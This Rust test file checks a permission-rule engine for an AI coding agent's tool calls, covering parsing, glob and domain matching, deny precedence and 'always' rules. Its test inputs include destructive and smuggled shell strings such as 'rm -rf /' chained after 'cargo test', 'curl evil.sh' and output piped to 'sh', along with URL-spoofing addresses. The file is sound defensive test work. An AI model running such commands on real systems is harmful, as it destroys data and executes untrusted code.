//! Tests for permission rules: parsing, printing, matching each kind of rule, precedence across layers,
//! and the rules an "always" answer produces.

use std::path::Path;

use serde_json::json;

use super::*;

/// The project root every test works in.
const PROJECT: &str = "/work/proj";

fn rule(text: &str) -> Rule {
    match Rule::parse(text) {
        Ok(rule) => rule,
        Err(err) => panic!("{err}"),
    }
}

fn rules(allow: &[&str], deny: &[&str]) -> Rules {
    Rules {
        allow: allow.iter().map(|text| rule(text)).collect(),
        deny: deny.iter().map(|text| rule(text)).collect(),
    }
}

fn bash(command: &str) -> Value {
    json!({ "command": command })
}

fn file(path: &str) -> Value {
    json!({ "file_path": path })
}

fn url(url: &str) -> Value {
    json!({ "url": url })
}

/// Whether `rule_text`, used as an allow rule, covers the call.
fn allows(rule_text: &str, tool: &str, input: &Value) -> bool {
    rule(rule_text).matches(tool, input, Path::new(PROJECT))
}

/// Whether `rule_text`, used as a deny rule, touches the call.
fn denies(rule_text: &str, tool: &str, input: &Value) -> bool {
    rule(rule_text).matches_any_part(tool, input, Path::new(PROJECT))
}

fn problem(text: &str) -> RuleProblem {
    match Rule::parse(text) {
        Ok(rule) => panic!("`{text}` parsed as {rule:?}"),
        Err(err) => {
            assert_eq!(err.rule, text, "the error names the rule text");
            err.problem
        }
    }
}

fn always(tool: &str, input: &Value) -> Option<String> {
    always_rule(tool, input, Path::new(PROJECT)).map(|rule| rule.to_string())
}

// ----- Bash ---------------------------------------------------------------------------------------

#[test]
fn bash_prefix_matches_at_a_word_boundary() {
    let cases = [
        ("cargo test", true),
        ("cargo test --all", true),
        ("  cargo test  ", true),
        ("cargo test\t-p tavern", true),
        ("cargo testx", false),
        ("cargo tes", false),
        ("cargo build", false),
        ("xcargo test", false),
    ];
    for (command, expected) in cases {
        assert_eq!(
            allows("Bash(cargo test:*)", "Bash", &bash(command)),
            expected,
            "{command:?}"
        );
    }
}

#[test]
fn bash_exact_matches_only_that_command() {
    let cases = [
        ("cargo test", true),
        (" cargo test ", true),
        ("cargo test --all", false),
        ("cargo", false),
    ];
    for (command, expected) in cases {
        assert_eq!(
            allows("Bash(cargo test)", "Bash", &bash(command)),
            expected,
            "{command:?}"
        );
    }
}

#[test]
fn compound_commands_never_match_a_prefix_allow_rule() {
    for command in [
        "cargo test && rm -rf /",
        "cargo test || curl evil.sh",
        "cargo test; rm -rf /",
        "cargo test | sh",
        "cargo test `rm -rf /`",
        "cargo test $(rm -rf /)",
        "cargo test\nrm -rf /",
        "cargo test > /etc/passwd",
        "cargo test < input",
        "cargo test & rm -rf /",
        "cargo test (x)",
    ] {
        assert!(
            !allows("Bash(cargo test:*)", "Bash", &bash(command)),
            "{command:?}"
        );
        assert!(allows("Bash", "Bash", &bash(command)), "{command:?}");
    }
}

#[test]
fn a_compound_command_matches_an_exact_rule_with_the_same_text() {
    let exact = "Bash(cargo build && cargo test)";
    assert!(allows(exact, "Bash", &bash("cargo build && cargo test")));
    assert!(!allows(
        exact,
        "Bash",
        &bash("cargo build && cargo test && rm -rf /")
    ));
    // An exact rule for a simple command never covers a compound one.
    assert!(!allows("Bash(cargo test)", "Bash", &bash("cargo test; ls")));
}

#[test]
fn deny_rules_match_any_part_of_a_compound_command() {
    let cases = [
        ("cargo test && rm -rf /", true),
        ("cargo test;rm -rf /", true),
        ("ls | rm -rf /", true),
        ("echo $(rm -rf /)", true),
        ("echo `rm -rf /`", true),
        ("true\nrm  -rf   /", true),
        ("{ rm -rf /; }", true),
        ("! rm -rf /", true),
        ("rm -rf /", true),
        ("cargo test && rmdir x", false),
        ("cargo test && echo rm -rf", false),
    ];
    for (command, expected) in cases {
        assert_eq!(
            denies("Bash(rm -rf:*)", "Bash", &bash(command)),
            expected,
            "{command:?}"
        );
    }
    assert!(denies(
        "Bash(git push --force)",
        "Bash",
        &bash("git add . && git  push --force")
    ));
    assert!(!denies(
        "Bash(git push --force)",
        "Bash",
        &bash("git push --force-with-lease")
    ));
}

#[test]
fn bash_rules_need_a_command_string() {
    assert!(!allows("Bash(ls:*)", "Bash", &json!({})));
    assert!(!allows("Bash(ls:*)", "Bash", &json!({ "command": 3 })));
    assert!(!denies("Bash(ls:*)", "Bash", &json!({})));
    assert!(allows("Bash", "Bash", &json!({})));
}

#[test]
fn a_rule_only_covers_the_tool_it_names() {
    assert!(!allows("Bash", "Write", &file("src/a.rs")));
    assert!(!allows("Edit(src/**)", "Write", &file("src/a.rs")));
    assert!(!allows("Bash(ls:*)", "Shell", &bash("ls")));
}

// ----- Paths --------------------------------------------------------------------------------------

#[test]
fn star_stays_within_a_segment_and_double_star_crosses_them() {
    let cases = [
        ("Write(src/*)", "src/main.rs", true),
        ("Write(src/*)", "src/permission/tests.rs", false),
        ("Write(src/**)", "src/main.rs", true),
        ("Write(src/**)", "src/permission/tests.rs", true),
        ("Write(src/**)", "src", false),
        ("Write(src/**)", "srcx/main.rs", false),
        ("Write(src/)", "src/a/b.rs", true),
        ("Write(src/**/*.rs)", "src/main.rs", true),
        ("Write(src/**/*.rs)", "src/a/b/c.rs", true),
        ("Write(src/**/*.rs)", "src/a/b/c.md", false),
        ("Write(**/*.md)", "README.md", true),
        ("Write(**/*.md)", "docs/adr/0001.md", true),
        ("Write(*.md)", "README.md", true),
        ("Write(*.md)", "docs/guide.md", false),
        ("Write(*.md)", ".hidden.md", true),
        ("Write(docs/?.md)", "docs/a.md", true),
        ("Write(docs/?.md)", "docs/ab.md", false),
        ("Write(**)", "any/thing/at/all", true),
        ("Write(a*b*c)", "aXbYc", true),
        ("Write(a*b*c)", "aXbYcZ", false),
        ("Write(src/a\\*.rs)", "src/a*.rs", true),
        ("Write(src/a\\*.rs)", "src/ab.rs", false),
        ("Write(src/[id]/page.tsx)", "src/[id]/page.tsx", true),
        ("Write(./src/*.rs)", "src/lib.rs", true),
    ];
    for (rule_text, path, expected) in cases {
        assert_eq!(
            allows(rule_text, "Write", &file(path)),
            expected,
            "{rule_text} vs {path}"
        );
    }
}

#[test]
fn a_leading_slash_anchors_at_the_project_root_like_a_relative_pattern() {
    for path in ["src/main.rs", "/work/proj/src/main.rs"] {
        assert!(allows("Edit(/src/*.rs)", "Edit", &file(path)), "{path}");
        assert!(allows("Edit(src/*.rs)", "Edit", &file(path)), "{path}");
    }
    assert!(!allows("Edit(/src/*.rs)", "Edit", &file("lib/src/main.rs")));
}

#[test]
fn absolute_paths_inside_the_project_are_made_relative() {
    let cases = [
        ("/work/proj/src/main.rs", true),
        ("/work/proj/./src/../src/main.rs", true),
        ("/work/proj//src/main.rs", true),
        ("/work/projx/src/main.rs", false),
        ("/work/src/main.rs", false),
    ];
    for (path, expected) in cases {
        assert_eq!(
            allows("Write(src/**)", "Write", &file(path)),
            expected,
            "{path}"
        );
    }
}

#[test]
fn paths_escaping_the_project_never_match_a_relative_pattern() {
    for path in [
        "../other/src/main.rs",
        "../projx/src/main.rs",
        "src/../../other/x.rs",
        "/etc/passwd",
    ] {
        assert!(!allows("Write(**)", "Write", &file(path)), "{path}");
        assert!(!denies("Write(**)", "Write", &file(path)), "{path}");
    }
    // A `..` that lands back inside the project is fine: only where the path ends up counts.
    assert!(allows("Write(src/**)", "Write", &file("docs/../src/a.rs")));
    assert!(allows("Write(src/**)", "Write", &file("../proj/src/a.rs")));
    // `..` past the filesystem root stays at the root.
    assert!(allows(
        "Read(//etc/passwd)",
        "Read",
        &file("/../../etc/passwd")
    ));
}

#[test]
fn absolute_patterns_cover_paths_outside_the_project() {
    assert!(allows("Read(//etc/**)", "Read", &file("/etc/hosts")));
    assert!(allows(
        "Read(//etc/**)",
        "Read",
        &file("../../../etc/hosts")
    ));
    assert!(allows(
        "Read(//work/proj/src/*)",
        "Read",
        &file("src/main.rs")
    ));
    assert!(!allows("Read(//etc/**)", "Read", &file("/usr/etc/hosts")));
}

#[test]
fn path_tools_read_their_own_path_fields() {
    assert!(allows(
        "NotebookEdit(nb/*.ipynb)",
        "NotebookEdit",
        &json!({ "notebook_path": "/work/proj/nb/a.ipynb" })
    ));
    assert!(allows("MultiEdit(src/**)", "MultiEdit", &file("src/a.rs")));
    assert!(!allows("Read(**)", "Read", &json!({ "path": "src/a.rs" })));
    assert!(!allows("Read(**)", "Read", &json!({})));
}

#[test]
fn a_relative_project_root_still_relates_relative_paths() {
    let rule = rule("Write(src/*)");
    assert!(rule.matches("Write", &file("src/a.rs"), Path::new("proj")));
    assert!(!rule.matches("Write", &file("../src/a.rs"), Path::new(".")));
    assert!(!rule.matches("Write", &file("/work/proj/src/a.rs"), Path::new("proj")));
}

// ----- WebFetch -----------------------------------------------------------------------------------

#[test]
fn webfetch_matches_the_domain_and_its_subdomains_only() {
    let cases = [
        ("https://example.com", true),
        ("https://example.com/path?q=1", true),
        ("https://EXAMPLE.com./", true),
        ("https://docs.example.com/a", true),
        ("http://a.b.example.com:8080/", true),
        ("https://user:pw@example.com/", true),
        ("example.com/page", true),
        ("https://evilexample.com/", false),
        ("https://example.com.evil.net/", false),
        ("https://example.com@evil.net/", false),
        ("https://evil.net\\@example.com/", false),
        ("https://evil.net/?next=https://example.com", false),
        ("", false),
    ];
    for (address, expected) in cases {
        assert_eq!(
            allows("WebFetch(domain:example.com)", "WebFetch", &url(address)),
            expected,
            "{address:?}"
        );
    }
    assert!(!allows(
        "WebFetch(domain:example.com)",
        "WebFetch",
        &json!({})
    ));
}

#[test]
fn ip_addresses_have_no_subdomains() {
    assert!(allows(
        "WebFetch(domain:10.0.0.1)",
        "WebFetch",
        &url("http://10.0.0.1/")
    ));
    assert!(!allows(
        "WebFetch(domain:0.1)",
        "WebFetch",
        &url("http://10.0.0.1/")
    ));
    assert!(allows(
        "WebFetch(domain:[::1])",
        "WebFetch",
        &url("http://[::1]:80/")
    ));
}

// ----- MCP ----------------------------------------------------------------------------------------

#[test]
fn mcp_server_rules_cover_every_tool_of_that_server_only() {
    let cases = [
        ("mcp__github", "mcp__github__get_issue", true),
        ("mcp__github", "mcp__github__create_pr", true),
        ("mcp__github", "mcp__githubx__get_issue", false),
        ("mcp__github", "mcp__gitlab__get_issue", false),
        ("mcp__github__*", "mcp__github__get_issue", true),
        ("mcp__github__*", "mcp__githubx__get_issue", false),
        ("mcp__github__get_issue", "mcp__github__get_issue", true),
        ("mcp__github__get_issue", "mcp__github__create_pr", false),
        ("mcp__github__get_issue", "mcp__github__get_issues", false),
        ("mcp__github", "github", false),
    ];
    for (rule_text, tool, expected) in cases {
        assert_eq!(
            allows(rule_text, tool, &json!({})),
            expected,
            "{rule_text} vs {tool}"
        );
    }
}

// ----- Other tools --------------------------------------------------------------------------------

#[test]
fn bare_names_cover_every_use_of_other_tools() {
    assert!(allows("Glob", "Glob", &json!({ "pattern": "**/*.rs" })));
    assert!(allows("TodoWrite", "TodoWrite", &json!({})));
    assert!(!allows("Glob", "Grep", &json!({})));
}

#[test]
fn specifiers_for_other_tools_match_a_known_string_field() {
    assert!(allows(
        "Grep(src/**)",
        "Grep",
        &json!({ "path": "/work/proj/src/a" })
    ));
    assert!(!allows("Grep(src/**)", "Grep", &json!({ "path": "/etc" })));
    assert!(allows("Glob(*.rs)", "Glob", &json!({ "pattern": "*.rs" })));
    assert!(allows(
        "Fetch(https://docs.rs/**)",
        "Fetch",
        &json!({ "url": "https://docs.rs/serde/latest" })
    ));
    assert!(allows(
        "Run(make *)",
        "Run",
        &json!({ "command": "make all" })
    ));
    // No known field: nothing to match.
    assert!(!allows("Task(*)", "Task", &json!({ "prompt": "anything" })));
}

#[test]
fn allow_rules_see_only_the_main_field_while_deny_rules_see_every_field() {
    // `path` names what Grep searches; a harmless `pattern` must not vouch for searching `/etc`.
    let input = json!({ "path": "/etc", "pattern": "src/x" });
    assert!(!allows("Grep(src/**)", "Grep", &input));
    assert!(denies("Grep(src/**)", "Grep", &input));
}

// ----- Precedence ---------------------------------------------------------------------------------

#[test]
fn decide_prefers_deny_then_allow_then_ask() {
    let project = Path::new(PROJECT);
    let layer = rules(&["Bash(git:*)", "Bash"], &["Bash(git push:*)"]);
    assert_eq!(
        layer.decide("Bash", &bash("git push origin"), project),
        Decision::Deny(rule("Bash(git push:*)"))
    );
    assert_eq!(
        layer.decide("Bash", &bash("git status"), project),
        Decision::Allow(rule("Bash(git:*)"))
    );
    assert_eq!(layer.decide("Write", &file("a.rs"), project), Decision::Ask);
    assert_eq!(
        Rules::default().decide("Bash", &bash("ls"), project),
        Decision::Ask
    );
}

#[test]
fn a_deny_in_any_layer_beats_an_allow_in_any_other() {
    let project = Path::new(PROJECT);
    let agent_type = rules(&["Write(src/**)"], &[]);
    let config = rules(&[], &["Write(src/secrets/**)"]);
    let always = rules(&["Write(src/secrets/key.pem)"], &[]);
    for layers in [
        [&agent_type, &config, &always],
        [&always, &agent_type, &config],
        [&config, &always, &agent_type],
    ] {
        let merged = Rules::merged(&layers);
        assert_eq!(
            merged.decide("Write", &file("src/secrets/key.pem"), project),
            Decision::Deny(rule("Write(src/secrets/**)"))
        );
        assert!(matches!(
            merged.decide("Write", &file("src/main.rs"), project),
            Decision::Allow(_)
        ));
    }
}

#[test]
fn merged_keeps_layer_order_and_drops_duplicates() {
    let a = rules(&["Bash(ls:*)", "Read"], &["Bash(rm:*)"]);
    let b = rules(&["Read", "Glob"], &["Bash(rm:*)", "WebFetch"]);
    let merged = Rules::merged(&[&a, &b]);
    assert_eq!(
        merged,
        rules(&["Bash(ls:*)", "Read", "Glob"], &["Bash(rm:*)", "WebFetch"])
    );
    assert_eq!(Rules::merged(&[]), Rules::default());
}

#[test]
fn decision_reports_its_rule() {
    assert_eq!(Decision::Ask.rule(), None);
    assert_eq!(Decision::Deny(rule("Read")).rule(), Some(&rule("Read")));
}

// ----- Parsing and printing -----------------------------------------------------------------------

#[test]
fn parse_errors_name_the_problem() {
    let cases = [
        ("", RuleProblem::Empty),
        ("   ", RuleProblem::Empty),
        ("(ls)", RuleProblem::EmptyToolName),
        ("Bash(cargo test", RuleProblem::UnclosedParenthesis),
        ("Bash)", RuleProblem::UnopenedParenthesis),
        ("Ba)sh(ls)", RuleProblem::UnopenedParenthesis),
        ("Bash(ls) now", RuleProblem::TrailingText(" now".to_owned())),
        ("Bash()", RuleProblem::EmptySpecifier("Bash".to_owned())),
        ("Write(  )", RuleProblem::EmptySpecifier("Write".to_owned())),
        ("Bash(:*)", RuleProblem::EmptyPrefix),
        ("Bash x", RuleProblem::InvalidToolName("Bash x".to_owned())),
        ("Bash*", RuleProblem::InvalidToolName("Bash*".to_owned())),
        ("Read(~/.ssh/**)", RuleProblem::HomeDirUnsupported),
        ("Read(~)", RuleProblem::HomeDirUnsupported),
        ("Read(../x)", RuleProblem::ParentDirInPattern),
        ("Read(src/../../x)", RuleProblem::ParentDirInPattern),
        ("Read(/)", RuleProblem::EmptyPattern),
        ("Read(//)", RuleProblem::EmptyPattern),
        ("Read(src\\)", RuleProblem::DanglingEscape),
        ("WebFetch(example.com)", RuleProblem::WebFetchSpecifier),
        (
            "WebFetch(domain:)",
            RuleProblem::InvalidDomain(String::new()),
        ),
        (
            "WebFetch(domain:ex ample.com)",
            RuleProblem::InvalidDomain("ex ample.com".to_owned()),
        ),
        (
            "WebFetch(domain:.example.com)",
            RuleProblem::InvalidDomain(".example.com".to_owned()),
        ),
        ("mcp__github(x)", RuleProblem::McpSpecifier),
        ("mcp__", RuleProblem::InvalidMcpName),
        ("mcp__*", RuleProblem::InvalidMcpName),
        ("mcp____tool", RuleProblem::InvalidMcpName),
        ("mcp__github__", RuleProblem::InvalidMcpName),
        ("mcp__github__get*", RuleProblem::InvalidMcpName),
    ];
    for (text, expected) in cases {
        assert_eq!(problem(text), expected, "{text:?}");
    }
}

#[test]
fn parse_error_messages_quote_the_rule() {
    let Err(err) = Rule::parse("Bash(cargo test") else {
        panic!("an unclosed rule parsed");
    };
    let message = err.to_string();
    assert!(message.contains("`Bash(cargo test`"), "{message}");
    assert!(message.contains("unbalanced parenthesis"), "{message}");
    let Err(err) = Rule::parse("Read(~/.ssh/id_rsa)") else {
        panic!("a home-directory rule parsed");
    };
    assert!(err.to_string().contains("~/"), "{err}");
}

#[test]
fn display_prints_rules_back_in_the_same_syntax() {
    for text in [
        "Bash",
        "Bash(cargo test)",
        "Bash(cargo test:*)",
        "Bash(echo (hi))",
        "Bash(cargo build && cargo test)",
        "Write(src/**)",
        "Edit(/src/*.rs)",
        "Read(//etc/hosts)",
        "Read(docs/)",
        "Write(src/a\\*.rs)",
        "NotebookEdit(nb/*.ipynb)",
        "WebFetch(domain:docs.rs)",
        "mcp__github",
        "mcp__github__*",
        "mcp__github__get_issue",
        "Glob",
        "Grep(src/**)",
    ] {
        let parsed = rule(text);
        assert_eq!(parsed.to_string(), text);
        assert_eq!(rule(&parsed.to_string()), parsed, "{text}");
        assert_eq!(text.parse::<Rule>(), Ok(parsed));
    }
}

#[test]
fn display_prints_a_canonical_form_of_loosely_written_rules() {
    let cases = [
        ("  Bash( cargo test :* ) ", "Bash(cargo test:*)"),
        ("Bash(  ls -la )", "Bash(ls -la)"),
        ("WebFetch(domain:Docs.RS.)", "WebFetch(domain:docs.rs)"),
    ];
    for (text, canonical) in cases {
        assert_eq!(rule(text).to_string(), canonical);
    }
}

#[test]
fn rule_serializes_as_its_string_form() {
    let rule = rule("Bash(cargo test:*)");
    let encoded = serde_json::to_string(&rule).ok();
    assert_eq!(encoded.as_deref(), Some(r#""Bash(cargo test:*)""#));
    let decoded: Result<Rule, _> = serde_json::from_str(r#""Bash(cargo test:*)""#);
    assert_eq!(decoded.ok(), Some(rule));
    let invalid: Result<Rule, _> = serde_json::from_str(r#""Bash(cargo test""#);
    let message = invalid.err().map(|err| err.to_string()).unwrap_or_default();
    assert!(message.contains("unbalanced parenthesis"), "{message}");
}

#[test]
fn rules_and_decisions_round_trip_through_serde() {
    let layer = rules(
        &["Bash(ls:*)", "Write(src/**)"],
        &["WebFetch(domain:evil.net)"],
    );
    let encoded = serde_json::to_value(&layer).ok();
    assert_eq!(
        encoded,
        Some(json!({
            "allow": ["Bash(ls:*)", "Write(src/**)"],
            "deny": ["WebFetch(domain:evil.net)"],
        }))
    );
    let decoded: Option<Rules> = encoded.and_then(|value| serde_json::from_value(value).ok());
    assert_eq!(decoded, Some(layer));

    let partial: Option<Rules> = serde_json::from_value(json!({ "deny": ["Bash"] })).ok();
    assert_eq!(partial, Some(rules(&[], &["Bash"])));

    for decision in [
        Decision::Allow(rule("Read")),
        Decision::Deny(rule("Bash(rm:*)")),
        Decision::Ask,
    ] {
        let round: Option<Decision> = serde_json::to_value(&decision)
            .ok()
            .and_then(|value| serde_json::from_value(value).ok());
        assert_eq!(round, Some(decision));
    }
}

// ----- "Always" answers ---------------------------------------------------------------------------

#[test]
fn always_rule_for_bash_uses_the_command_and_subcommand() {
    let cases = [
        ("cargo test --all", "Bash(cargo test:*)"),
        ("cargo test", "Bash(cargo test:*)"),
        ("ls -la", "Bash(ls:*)"),
        ("ls", "Bash(ls:*)"),
        ("  git   status  ", "Bash(git status:*)"),
        ("npm run build-all", "Bash(npm run:*)"),
        ("python3 script.py", "Bash(python3 script.py)"),
        ("./x.sh run", "Bash(./x.sh run:*)"),
        (
            "cargo build && cargo test",
            "Bash(cargo build && cargo test)",
        ),
        ("ls | wc -l", "Bash(ls | wc -l)"),
        ("echo $(id)", "Bash(echo $(id))"),
        ("$EDITOR notes.md", "Bash($EDITOR notes.md)"),
        ("\"my tool\" run", "Bash(\"my tool\" run)"),
    ];
    for (command, expected) in cases {
        assert_eq!(
            always("Bash", &bash(command)).as_deref(),
            Some(expected),
            "{command:?}"
        );
    }
}

#[test]
fn always_rule_for_bash_covers_the_approved_command_and_nothing_chained() {
    let project = Path::new(PROJECT);
    for command in [
        "cargo test --all",
        "ls -la",
        "cargo build && cargo test",
        "echo $(id)",
    ] {
        let input = bash(command);
        let rule = always_rule("Bash", &input, project);
        assert!(
            rule.as_ref()
                .is_some_and(|rule| rule.matches("Bash", &input, project)),
            "{command:?}"
        );
        let chained = bash(&format!("{command}; rm -rf /"));
        assert!(
            !rule.is_some_and(|rule| rule.matches("Bash", &chained, project)),
            "{command:?}"
        );
    }
}

#[test]
fn always_rule_for_files_names_the_exact_file() {
    let cases = [
        (
            "Write",
            file("/work/proj/src/main.rs"),
            "Write(src/main.rs)",
        ),
        ("Edit", file("src/../Cargo.toml"), "Edit(Cargo.toml)"),
        ("Read", file("/etc/hosts"), "Read(//etc/hosts)"),
        ("Read", file("../other/a.txt"), "Read(//work/other/a.txt)"),
        ("Write", file("src/a*b?.rs"), "Write(src/a\\*b\\?.rs)"),
        ("Write", file("~/x"), "Write(\\~/x)"),
        (
            "NotebookEdit",
            json!({ "notebook_path": "nb/a.ipynb" }),
            "NotebookEdit(nb/a.ipynb)",
        ),
    ];
    let project = Path::new(PROJECT);
    for (tool, input, expected) in cases {
        assert_eq!(always(tool, &input).as_deref(), Some(expected), "{input}");
        let rule = always_rule(tool, &input, project);
        assert!(
            rule.is_some_and(|rule| rule.matches(tool, &input, project)),
            "{input}"
        );
    }
    // The exact file, not its neighbours.
    let rule = always_rule("Write", &file("src/a*b?.rs"), project);
    assert!(!rule.is_some_and(|rule| rule.matches("Write", &file("src/aXbY.rs"), project)));
}

#[test]
fn always_rule_for_other_tools() {
    let cases = [
        (
            "WebFetch",
            url("https://Docs.rs/serde"),
            "WebFetch(domain:docs.rs)",
        ),
        (
            "mcp__github__get_issue",
            json!({ "n": 1 }),
            "mcp__github__get_issue",
        ),
        ("Glob", json!({ "pattern": "**/*.rs" }), "Glob"),
        ("TodoWrite", json!({}), "TodoWrite"),
    ];
    for (tool, input, expected) in cases {
        assert_eq!(always(tool, &input).as_deref(), Some(expected), "{tool}");
    }
}

#[test]
fn always_rule_declines_when_no_narrow_rule_exists() {
    let cases = [
        ("Bash", json!({})),
        ("Bash", bash("   ")),
        ("Bash", bash("a; echo :*")),
        ("Write", json!({})),
        ("Write", file("")),
        ("WebFetch", url("")),
        ("WebFetch", json!({})),
        ("mcp__github", json!({})),
        ("mcp__github__*", json!({})),
        ("bad tool", json!({})),
    ];
    for (tool, input) in cases {
        assert_eq!(always(tool, &input), None, "{tool} {input}");
    }
}

#[test]
fn always_gives_the_exact_command_for_commands_whose_arguments_decide_everything() {
    let project = Path::new("/work/proj");
    for command in [
        "rm -rf build",
        "python x.py",
        "bash build.sh",
        "find . -name x",
        "/usr/bin/env ls",
    ] {
        let rule =
            always_rule("Bash", &serde_json::json!({ "command": command }), project).unwrap();
        assert_eq!(rule.to_string(), format!("Bash({command})"), "{command}");
    }
    let rule = always_rule(
        "Bash",
        &serde_json::json!({"command": "cargo test --all"}),
        project,
    )
    .unwrap();
    assert_eq!(rule.to_string(), "Bash(cargo test:*)");
}
